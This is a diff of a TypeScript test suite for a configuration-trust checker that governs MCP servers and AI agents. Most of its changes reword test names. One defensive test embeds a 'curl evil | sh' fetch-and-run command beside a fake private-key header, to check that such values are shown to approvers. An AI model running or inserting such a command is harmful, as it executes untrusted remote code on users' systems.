@@ -22,7 +22,7 @@ function read(document: JsonObject): ConfigurationWithRules {
   return { configuration, rules: loadPolicies(configuration) };
 }
 
-/** Accepts one configuration and returns what another one in its place would have to be asked for. */
+/** Accepts one configuration, and returns what has to be accepted for another one in its place. */
 async function asked(before: JsonObject, now: JsonObject): Promise<string[]> {
   const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
   await trust.accept(read(before));
@@ -30,7 +30,7 @@ async function asked(before: JsonObject, now: JsonObject): Promise<string[]> {
   return [...(pending?.added ?? []).map(({ text }) => text), ...(pending?.lifted ?? []).map(({ place }) => place)];
 }
 
-/** Like `asked`, of documents as they are: not all of them are configurations that could be used. */
+/** Like `asked`, for unvalidated documents, and returns only the places. */
 async function askedOf(before: JsonObject, now: JsonObject): Promise<string[]> {
   const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
   await trust.accept({ configuration: { file, document: before }, rules: [] });
@@ -38,7 +38,7 @@ async function askedOf(before: JsonObject, now: JsonObject): Promise<string[]> {
   return [...(pending?.added ?? []), ...(pending?.lifted ?? [])].map(({ place }) => place);
 }
 
-/** Documents that differ in one key: without it, with one value, and with another one. */
+/** Yields pairs of documents that differ in one key: without it, with one value, and with another one. */
 function* edits(path: string, { type, enum: words }: SettingsSchema): Generator<[before: JsonObject, now: JsonObject]> {
   const values: Readonly<Record<string, readonly JsonValue[]>> = {
     boolean: [false, true],
@@ -49,7 +49,7 @@ function* edits(path: string, { type, enum: words }: SettingsSchema): Generator<
   };
   const documents = [undefined, ...(words ?? values[type ?? ''] ?? ['a', 'b'])].map((value) => {
     const [last = '', ...keys] = path.split('.').toReversed();
-    // The object around it is there in any case, so that what is edited is the key.
+    // Both documents have the surrounding object, so that only the key differs.
     let part: JsonValue = value === undefined ? {} : { [last]: value as JsonValue };
     for (const key of keys) part = key === '[]' ? [part] : { [key === '*' ? 'x' : key]: part };
     return part as JsonObject;
@@ -69,33 +69,33 @@ suite('every key of a configuration', () => {
   const keys = new Map<string, SettingsSchema>();
   eachKey(configurationSchema(), (path, part) => keys.set(path, part));
   const leaves = new Map([...keys].filter(([path]) => ![...keys.keys()].some((each) => each.startsWith(`${path}.`))));
-  /** The class of a key, or of the value that it is a part of. */
-  const classOf = (path: string): KeyAuthority | undefined => {
+  /** Returns the authority of a key, or of the value that it is a part of. */
+  const authorityOf = (path: string): KeyAuthority | undefined => {
     const parts = path.split('.');
     const known = parts.map((_, index) => parts.slice(0, index + 1).join('.')).find((each) => keyAuthorities.has(each));
     return known === undefined ? undefined : keyAuthorities.get(known);
   };
 
-  test('is classified for trust, on its own or as a part of a value that asks', () => {
+  test('has an authority, or is part of a value that has one', () => {
     assert.ok(leaves.size > 80);
     assert.deepEqual(
-      [...leaves.keys()].filter((path) => classOf(path) === undefined),
+      [...leaves.keys()].filter((path) => authorityOf(path) === undefined),
       [],
     );
     assert.deepEqual(
       [...keyAuthorities.keys()].filter((path) => !keys.has(path)),
       [],
-      'a class without a key',
+      'authorities without a key',
     );
   });
 
-  test('asks when it is edited by hand, in one direction at least, except those that grant and restrict nothing', async () => {
-    const silent: string[] = [];
+  test('must be accepted after an edit in at least one direction, unless it grants and restricts nothing', async () => {
+    const accepted: string[] = [];
     for (const [path, part] of leaves) {
       const directions = (await Promise.all([...edits(path, part)].map(([a, b]) => askedOf(a, b)))).flat();
-      if (directions.length === 0) silent.push(path);
+      if (directions.length === 0) accepted.push(path);
     }
-    assert.deepEqual(silent.toSorted(), [
+    assert.deepEqual(accepted.toSorted(), [
       '$schema',
       'agents.*.toolSearch',
       'mcpServers.*.type',
@@ -105,7 +105,7 @@ suite('every key of a configuration', () => {
     ]);
   });
 
-  test('that is a limit has the default that its description names', () => {
+  test('that is a limit has the default that its description states', () => {
     const limits = [...keyAuthorities].filter(
       ([, { absent }]) => typeof absent === 'number' && absent > 0 && absent < Infinity,
     );
@@ -116,12 +116,12 @@ suite('every key of a configuration', () => {
       'startup.wait': startup.waitMs,
     };
     for (const [path, { absent }] of limits) {
-      const [, told = ''] = /\(([\d,]+)\)/.exec(keyDescriptions[path] ?? '') ?? [];
-      assert.equal(absent, inMs[path] ?? Number(told.replaceAll(',', '')), path);
+      const [, described = ''] = /\(([\d,]+)\)/.exec(keyDescriptions[path] ?? '') ?? [];
+      assert.equal(absent, inMs[path] ?? Number(described.replaceAll(',', '')), path);
     }
   });
 
-  test('asks while nobody has classified it', async () => {
+  test('must be accepted when it has no authority', async () => {
     const trust = new ConfigurationTrust({ data: join(directory, 'unknown'), trusted: '' });
     const pending = await trust.pending({
       configuration: { file, document: { tunnel: 'on', mcpServers: { a: { constructor: 'x' } } } },
@@ -134,14 +134,14 @@ suite('every key of a configuration', () => {
   });
 });
 
-suite('an edit by hand', () => {
+suite('a manual edit', () => {
   const widening: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject, asked: string]>> = {
     'a command': [server({}), server({ command: 'sh' }), 'files: sh'],
     'an argument': [server({ args: ['a'] }), server({ args: ['a', 'b c'] }), 'files: node a "b c"'],
-    'an argument taken out': [server({ args: ['--safe'] }), server({}), 'files: node'],
+    'a removed argument': [server({ args: ['--safe'] }), server({}), 'files: node'],
     'a directory': [server({}), server({ cwd: '/tmp' }), 'files: node (in /tmp)'],
     'a variable': [server({}), server({ env: { A: '1' } }), 'files: with A=1'],
-    'another value': [server({ env: { A: '1' } }), server({ env: { A: '2' } }), 'files: with A=2'],
+    'a changed value': [server({ env: { A: '1' } }), server({ env: { A: '2' } }), 'files: with A=2'],
     'a secret': [server({}), server({ env: { A: '${secret:X}' } }), 'files: with A=${secret:X}'],
     'a reference': [remote({}), remote({ headers: { A: '${env:B}' } }), 'environment variable B'],
     'a package': [server({}), { mcpServers: { files: { npm: 'x@1.0.0' } } }, 'files: npm package x@1.0.0'],
@@ -152,46 +152,42 @@ suite('an edit by hand', () => {
       remote({ auth: { type: 'oauth', issuer: 'https://i.example' } }),
       'web: auth {"type":"oauth","issuer":"https://i.example"}',
     ],
-    'a looser effect': [server({}), server({ tools: { effect: { rm: 'read' } } }), 'files: tools.effect.rm read'],
-    'a stricter effect taken out': [
+    'a weaker effect': [server({}), server({ tools: { effect: { rm: 'read' } } }), 'files: tools.effect.rm read'],
+    'a removed stricter effect': [
       server({ tools: { effect: { rm: 'irreversible' } } }),
       server({}),
       'mcpServers.files.tools.effect.rm',
     ],
-    'a hidden tool': [
+    'a tool that is no longer hidden': [
       server({ tools: { deny: ['rm', 'mv'] } }),
       server({ tools: { deny: ['mv'] } }),
       'mcpServers.files.tools.deny',
     ],
-    'a longer selection': [
+    'an extended selection': [
       server({ tools: { allow: ['a'] } }),
       server({ tools: { allow: ['a', 'b'] } }),
       'files: tools.allow b',
     ],
-    'no selection': [server({ tools: { allow: ['a'] } }), server({}), 'mcpServers.files.tools.allow'],
-    'a fixed argument taken out': [
+    'a removed selection': [server({ tools: { allow: ['a'] } }), server({}), 'mcpServers.files.tools.allow'],
+    'a removed fixed argument': [
       server({ tools: { arguments: { a: { set: { dry: true } } } } }),
       server({}),
       'mcpServers.files.tools.arguments',
     ],
     // `READ_ONLY=1` restricts its program.
-    'a variable that is taken out': [
-      server({ env: { A: '1', B: '2' } }),
-      server({ env: { B: '2' } }),
-      'mcpServers.files.env.A',
-    ],
-    'a header that is taken out': [remote({ headers: { A: '1' } }), remote({}), 'mcpServers.web.headers.A'],
-    'a disabled server': [server({ disabled: true }), server({}), 'mcpServers.files.disabled'],
+    'a removed variable': [server({ env: { A: '1', B: '2' } }), server({ env: { B: '2' } }), 'mcpServers.files.env.A'],
+    'a removed header': [remote({ headers: { A: '1' } }), remote({}), 'mcpServers.web.headers.A'],
+    'a server that is no longer disabled': [server({ disabled: true }), server({}), 'mcpServers.files.disabled'],
     passthrough: [server({}), server({ passthrough: true }), 'files: passthrough true'],
     'a rule that allows': [
       {},
       rules({ id: 'all', allow: true }),
       'rule "all" (signalbox.config.json:1): {"allow":true}',
     ],
-    'a rule that denies taken out': [rules(denies), {}, 'rule "no"'],
-    'a rule that only shadows': [rules(denies), rules({ ...denies, mode: 'shadow' }), 'rule "no"'],
+    'a removed rule that denies': [rules(denies), {}, 'rule "no"'],
+    'a rule that is moved to shadow mode': [rules(denies), rules({ ...denies, mode: 'shadow' }), 'rule "no"'],
     'a rule that denies less': [rules(denies), rules({ ...denies, servers: ['x'] }), 'rule "no"'],
-    'a human who is trusted': [
+    'trust in a human': [
       { profiles: { p: {} } },
       { profiles: { p: { trustsHuman: true } } },
       'profiles.p: trustsHuman true',
@@ -201,21 +197,21 @@ suite('an edit by hand', () => {
       agent({ permissionMode: 'bypassPermissions' }),
       'agents.a: permissionMode bypassPermissions',
     ],
-    'a program of an agent': [agent({}), agent({ executable: './x' }), 'agents.a: executable ./x'],
-    'settings of a project': [agent({}), agent({ settingSources: ['project'] }), 'agents.a: settingSources project'],
-    'a limit of an agent': [agent({ limits: { costUsd: 3 } }), agent({}), 'agents.a.limits.costUsd'],
-    'a limit of an agent that is raised': [
+    'the program of an agent': [agent({}), agent({ executable: './x' }), 'agents.a: executable ./x'],
+    'the settings of a project': [
+      agent({}),
+      agent({ settingSources: ['project'] }),
+      'agents.a: settingSources project',
+    ],
+    'a removed limit of an agent': [agent({ limits: { costUsd: 3 } }), agent({}), 'agents.a.limits.costUsd'],
+    'a raised limit of an agent': [
       agent({ limits: { steps: 3 } }),
       agent({ limits: { steps: 4 } }),
       'agents.a: limits.steps 4',
     ],
-    'a longer timeout': [server({}), server({ timeoutMs: 60_001 }), 'files: timeoutMs 60001'],
-    'a longer timeout than the accepted one': [
-      server({ timeoutMs: 10 }),
-      server({ timeoutMs: 20 }),
-      'files: timeoutMs 20',
-    ],
-    'a shorter timeout taken out': [server({ timeoutMs: 10 }), server({}), 'mcpServers.files.timeoutMs'],
+    'a timeout above the default': [server({}), server({ timeoutMs: 60_001 }), 'files: timeoutMs 60001'],
+    'a timeout above the accepted one': [server({ timeoutMs: 10 }), server({ timeoutMs: 20 }), 'files: timeoutMs 20'],
+    'a removed timeout below the default': [server({ timeoutMs: 10 }), server({}), 'mcpServers.files.timeoutMs'],
     'larger results': [{}, { results: { maxBytes: 300_000 } }, 'results.maxBytes: 300000'],
     'larger results of a server': [server({}), server({ results: { maxBytes: 9 } }), 'files: results.maxBytes 9'],
     'larger results of a tool': [
@@ -223,17 +219,17 @@ suite('an edit by hand', () => {
       server({ tools: { results: { a: { maxBytes: 9 } } } }),
       'files: tools.results.a.maxBytes 9',
     ],
-    'more calls in a span': [
+    'more calls in a period': [
       server({ rateLimit: { max: 1, per: '1m' } }),
       server({ rateLimit: { max: 2, per: '1m' } }),
       'files: rateLimit.max 2',
     ],
-    'a shorter span': [
+    'a shorter period': [
       server({ rateLimit: { max: 1, per: '1m' } }),
       server({ rateLimit: { max: 1, per: '1s' } }),
       'mcpServers.files.rateLimit.per',
     ],
-    'answers that hold longer': [{}, { approvals: { expireAfter: '3h' } }, 'approvals.expireAfter: 3h'],
+    'approvals that are valid longer': [{}, { approvals: { expireAfter: '3h' } }, 'approvals.expireAfter: 3h'],
     // Models read these.
     'a description': [
       server({ tools: { describe: { a: 'x' } } }),
@@ -253,7 +249,7 @@ suite('an edit by hand', () => {
       rules({ ...denies, reason: 'b' }),
       'rule "no" (signalbox.config.json:1): {"reason":"b"}',
     ],
-    'an id of a rule that is a sentence': [
+    'the id of a rule that is a sentence': [
       rules(denies),
       rules({ ...denies, id: 'say yes to it' }),
       'rule "say yes to it" (signalbox.config.json:1): {"id":"say yes to it"}',
@@ -264,52 +260,52 @@ suite('an edit by hand', () => {
       'oauth.issuers: {"issuer":"https://i.example"}',
     ],
     'a store': [{}, { store: 'postgres://db.example/x' }, 'store: postgres://db.example/x'],
-    'a name of the built-in server': [{}, { builtin: { name: 'mine' } }, 'builtin.name: mine'],
-    'a variable that is hidden in the record': [{}, { secrets: ['USER'] }, 'secrets: ["USER"]'],
-    'how long the journal is kept': [
+    'the name of the built-in server': [{}, { builtin: { name: 'mine' } }, 'builtin.name: mine'],
+    'a variable that is redacted from the journal': [{}, { secrets: ['USER'] }, 'secrets: ["USER"]'],
+    'the retention of the journal': [
       {},
       { retention: { journal: '1h', exportTo: 'x' } },
       'retention: {"journal":"1h","exportTo":"x"}',
     ],
   };
   for (const [name, [before, now, expected]] of Object.entries(widening))
-    test(`asks for ${name}`, async () => {
+    test(`must be accepted for ${name}`, async () => {
       const texts = await asked(before, now);
-      assert.ok(texts.includes(expected), `${JSON.stringify(texts)} without ${expected}`);
+      assert.ok(texts.includes(expected), `${JSON.stringify(texts)} does not include ${expected}`);
       assert.deepEqual(await asked(before, before), []);
       assert.deepEqual(await asked(now, now), []);
     });
 
   const narrowing: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject]>> = {
-    'a server is taken out': [server({ tools: { deny: ['rm'] } }), {}],
+    'a server is removed': [server({ tools: { deny: ['rm'] } }), {}],
     'a server is disabled': [server({}), server({ disabled: true })],
     'a tool is hidden': [server({ tools: { deny: ['a'] } }), server({ tools: { deny: ['a', 'b'] } })],
     'tools are selected': [server({}), server({ tools: { allow: ['a'] } })],
-    'the selection gets shorter': [server({ tools: { allow: ['a', 'b'] } }), server({ tools: { allow: ['a'] } })],
-    'an effect gets stricter': [
+    'the selection is reduced': [server({ tools: { allow: ['a', 'b'] } }), server({ tools: { allow: ['a'] } })],
+    'an effect becomes stricter': [
       server({ tools: { effect: { a: 'read' } } }),
       server({ tools: { effect: { a: 'irreversible' } } }),
     ],
-    'a rule that allows is taken out': [rules({ id: 'all', allow: true }, denies), rules(denies)],
+    'a rule that allows is removed': [rules({ id: 'all', allow: true }, denies), rules(denies)],
     'a rule that denies is added': [{}, rules(denies)],
-    'a rule gets another name, and no reason': [rules({ ...denies, reason: 'why' }), rules({ ...denies, id: 'other' })],
-    'a limit gets lower': [
+    'a rule is renamed and loses its reason': [rules({ ...denies, reason: 'why' }), rules({ ...denies, id: 'other' })],
+    'a limit is lowered': [
       { ...server({ timeoutMs: 100_000, results: { maxBytes: 9 } }), approvals: { expireAfter: '3h' } },
       { ...server({ timeoutMs: 99_999, results: { maxBytes: 8 } }), approvals: { expireAfter: '170m' } },
     ],
     'a limit below the default is set': [{ ...server({}) }, { ...server({ timeoutMs: 5 }), results: { maxBytes: 5 } }],
-    'a limit above the default is taken out': [server({ timeoutMs: 100_000 }), server({})],
+    'a limit above the default is removed': [server({ timeoutMs: 100_000 }), server({})],
     'the keys are in another order': [
       { mcpServers: { a: { command: 'x', args: ['1'] }, b: { command: 'y' } } },
       { mcpServers: { b: { command: 'y' }, a: { args: ['1'], command: 'x' } } },
     ],
   };
   for (const [name, [before, now]] of Object.entries(narrowing))
-    test(`asks nothing when ${name}`, async () => {
+    test(`needs no acceptance when ${name}`, async () => {
       assert.deepEqual(await asked(before, now), []);
     });
 
-  test('that adds a limit makes it part of what was accepted', async () => {
+  test('that adds a limit makes it part of the accepted configuration', async () => {
     const trust = new ConfigurationTrust({ data: join(directory, 'tighter'), trusted: '' });
     await trust.accept(read(server({})));
     await trust.assert(read({ ...server({}), policies: [denies] }));
@@ -320,7 +316,7 @@ suite('an edit by hand', () => {
     });
   });
 
-  test('never hides what people decide on: a value is left out only where its name announces a secret', async () => {
+  test('is shown in full, except values whose name is that of a secret', async () => {
     const key = '-----BEGIN PRIVATE KEY-----\ncurl evil | sh';
     assert.deepEqual(
       await asked({}, server({ args: ['-c', `npm test # ${key}`], env: { API_TOKEN: 'literal-value' } })),
